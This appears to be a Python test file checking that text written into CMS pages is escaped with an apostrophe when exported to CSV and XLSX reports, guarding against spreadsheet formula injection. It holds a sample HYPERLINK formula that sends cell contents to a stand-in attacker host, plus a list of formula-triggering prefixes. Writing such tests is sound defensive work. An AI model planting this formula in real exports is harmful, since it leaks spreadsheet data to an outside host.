"""No text that somebody wrote into a page becomes a formula in a spreadsheet."""

import csv
from io import BytesIO, StringIO

import pytest
from openpyxl import load_workbook

from editing.reports.translation import TranslationReport
from editing.spreadsheets import defused
from tests.editing.reading import exported, workbook
from tests.pages.trees import an_article

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Avaa")'
BEGINNINGS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\u00a0=",
    "\u200b=",
    "\ufeff+",
    " \t@",
]


@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_what_begins_like_a_formula_stands_behind_an_apostrophe(beginning):
    assert defused(f"{beginning}1+1") == f"'{beginning}1+1"


@pytest.mark.parametrize("text", ["", "Apua", "1-2", "a=b", "'=1", "Mitä – ja miten?", "–1"])
def test_every_other_text_stays_as_it_is(text):
    assert defused(text) == text


def test_a_heading_is_text_in_both_formats(editor, front_page):
    an_article(front_page, heading_fi=FORMULA, address_fi="kaava", body_en=None)
    assert [row["Page"] for row in exported(editor, TranslationReport)] == [f"'{FORMULA}"]
    cell = workbook(editor, TranslationReport)[0][0]
    assert (cell.value, cell.data_type) == (f"'{FORMULA}", "s")


def test_wagtails_own_reports_hold_no_formula_either(publisher, front_page):
    an_article(front_page, heading_fi=FORMULA, address_fi="kaava")
    response = publisher.get("/editor/reports/aging-pages/", {"export": "csv"})
    titles = {row["Title"] for row in csv.DictReader(StringIO(b"".join(response.streaming_content).decode()))}
    assert f"'{FORMULA}" in titles
    assert FORMULA not in titles

    response = publisher.get("/editor/reports/aging-pages/", {"export": "xlsx"})
    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    assert f"'{FORMULA}" in {row[0].value for row in sheet.iter_rows()}
    assert {cell.data_type for row in sheet.iter_rows() for cell in row} == {"s", "inlineStr", "d"}
